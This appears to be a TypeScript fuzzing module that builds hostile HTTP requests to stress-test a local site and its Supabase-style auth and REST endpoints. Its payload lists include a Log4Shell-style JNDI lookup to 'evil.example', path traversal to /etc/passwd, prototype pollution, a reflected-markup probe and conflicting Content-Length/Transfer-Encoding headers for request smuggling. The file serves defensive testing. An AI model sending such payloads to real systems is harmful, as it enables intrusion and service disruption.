/** Requests that no browser sends: any method, path, header and body, written to the socket as they are. */
import { pick, type Random } from '#domain/generator/random.ts';
import { publicKey } from './start-site.ts';
import { authCalls, pages, restCalls } from './targets.ts';

/** An answer that contains this has reflected input as markup. */
export const marker = `<zq"'>`;

export interface HostileRequest {
  method: string;
  target: string;
  headers: readonly [string, string][];
  body: string;
}

/** A method that is listed more often is sent more often. */
const methods = [
  'GET',
  'GET',
  'GET',
  'GET',
  'HEAD',
  'HEAD',
  'POST',
  'POST',
  'PATCH',
  'DELETE',
  'PUT',
  'OPTIONS',
  'TRACE',
  'PROPFIND',
  'get',
  'GETT',
  '',
];

const headerNames = [
  'Accept',
  'Accept-Encoding',
  'Accept-Profile',
  'Content-Profile',
  'If-None-Match',
  'Range',
  'Prefer',
  'Cookie',
  'X-Forwarded-For',
  'X-Forwarded-Host',
  'X-Request-Id',
  'Origin',
  'Referer',
  'User-Agent',
  'Expect',
  'Upgrade',
  'X-Http-Method-Override',
  'X-Supabase-Api-Version',
  'Content-Encoding',
  'Forwarded',
  'Authorization',
  'Accept',
];
const headerValues = [
  '*/*',
  '*',
  'text/html',
  'application/vnd.pgrst.object+json',
  'count=exact',
  'return=representation',
  'gzip;q=0',
  'br',
  'bytes=0-',
  'bytes=5-2,9',
  'public',
  'auth',
  '100-continue',
  'websocket',
  '2024-01-01',
  'Bearer ',
  'W/"a"',
  '1.2.3.4',
  '::1',
  'a'.repeat(5_000),
  marker,
  '../../etc/passwd',
  '%{jndi:ldap://evil.example/a}',
  '\u00ff\u00e7',
];
const bodies = [
  '',
  '{}',
  '[]',
  '[[]]',
  'null',
  '7',
  '"a"',
  '{"title":',
  '{"__proto__":{"a":1}}',
  '\u0000',
  '\u00ff\u00fe',
  'a=b&c=d',
  `{"title":"${marker}","slug":"x","content":"<p>x</p>"}`,
  '{"title":1,"slug":[],"content":{}}',
  '{"title":null}',
  '{"refresh_token":"aaaaaaaaaaaa"}',
  '{"refresh_token":7}',
  '{"factor_type":"totp"}',
  '{"code":"000000"}',
  `{"password":"${'x'.repeat(2_000)}"}`,
  '['.repeat(5_000),
  `{"title":"${'\\u0000'.repeat(900)}"}`,
  '{"a":1e999}',
];

/** @param nextText yields hostile texts for paths, queries and bodies */
export function hostileRequest(random: Random, nextText: () => string, token: string): HostileRequest {
  const method = pick(methods, random);
  const target = randomTarget(random, nextText);
  const body = random() < 0.7 ? pick(bodies, random) : nextText();
  const headers: [string, string][] = [
    ['Host', random() < 0.95 ? 'site.example' : pick(headerValues, random)],
  ];
  if (random() < 0.8) headers.push(['apikey', random() < 0.9 ? publicKey : nextText()]);
  // Only requests to /rest/ are signed in, because those to /auth/ could end the session.
  if (target.startsWith('/rest/') && random() < 0.6) headers.push(['Authorization', `Bearer ${token}`]);
  for (let left = Math.floor(random() * 4); left > 0; left -= 1) {
    headers.push([
      pick(headerNames, random),
      random() < 0.8 ? pick(headerValues, random) : printable(random, nextText()),
    ]);
  }
  if (body !== '') headers.push(...lengthHeaders(random, body));
  return { method, target, headers, body };
}

function randomTarget(random: Random, nextText: () => string): string {
  const text = encoded(random, random() < 0.2 ? marker : nextText());
  const kind = random();
  if (kind < 0.3) return pick(pages, random) + (random() < 0.5 ? '' : text);
  if (kind < 0.45)
    return `${pick(pages, random)}?${pick(['q', 'cidade', 'pagina', '_routes'], random)}=${text}`;
  if (kind < 0.65) return `/auth/v1/${pick(authCalls, random)}${random() < 0.6 ? '' : text}`;
  if (kind < 0.9) return `/rest/v1/${pick(restCalls, random)}${random() < 0.4 ? '' : text}`;
  return random() < 0.8 ? `/${text}` : text;
}

/** Mostly encoded as a client would, sometimes raw. */
function encoded(random: Random, text: string): string {
  if (random() < 0.2) return printable(random, text);
  const percent = encodeURIComponent(text.toWellFormed());
  return random() < 0.8 ? percent : percent.replaceAll('%2F', '/').replaceAll('%25', '%');
}

/** Node's parser refuses most control characters, and refused requests get no further. */
function printable(random: Random, text: string): string {
  return random() < 0.1 ? text : text.replaceAll(/[^!-~\u0080-\u00ff]/g, '');
}

function lengthHeaders(random: Random, body: string): [string, string][] {
  const length = Buffer.byteLength(body, 'latin1');
  const type: [string, string] = ['Content-Type', random() < 0.8 ? 'application/json' : 'text/plain'];
  const kind = random();
  if (kind < 0.9) return [type, ['Content-Length', `${length}`]];
  if (kind < 0.94)
    return [type, ['Content-Length', pick(['-1', '0', '1e3', '+5', `${length},${length}`], random)]];
  if (kind < 0.97)
    return [type, ['Transfer-Encoding', pick(['chunked', 'gzip', 'chunked, identity'], random)]];
  return [type, ['Content-Length', `${length}`], ['Transfer-Encoding', 'chunked']];
}

/** As sent over the wire, one byte per character. */
export function requestBytes({ method, target, headers, body }: HostileRequest): Buffer {
  const lines = headers.map(([name, value]) => `${name}: ${value}`);
  const head = [`${method} ${target} HTTP/1.1`, ...lines, 'Connection: close'].join('\r\n');
  return Buffer.from(`${head}\r\n\r\n${body}`, 'latin1');
}
